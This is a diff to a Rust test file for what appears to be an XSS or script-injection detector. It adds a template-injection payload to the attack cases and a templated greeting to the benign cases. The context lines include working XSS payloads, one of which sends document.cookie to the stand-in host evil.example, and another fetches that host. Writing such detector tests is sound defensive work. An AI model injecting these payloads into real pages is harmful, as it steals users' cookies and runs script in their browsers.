@@ -101,6 +101,7 @@ fn script_context_breakouts() {
     attack("\\';alert(1)//");
     attack("';document.location='http://evil.example/?c='+document.cookie;//");
     attack("${alert(1)}");
+    attack("{{constructor.constructor('alert(1)')()}}");
     attack("javascript:alert(document.cookie)");
     attack("  JavaScript:void(fetch('//evil.example'))");
     attack("</script><script>alert(1)</script>");
@@ -131,6 +132,7 @@ fn benign_markup_and_prose() {
     benign("{\"html\":\"<p>Hello</p>\",\"ok\":true}");
     benign("Use <code>onclick</code> handlers carefully");
     benign("price < $10 > $5");
+    benign("Hello {{ user.name }}, your order ${total} is ready");
 }
 
 #[test]
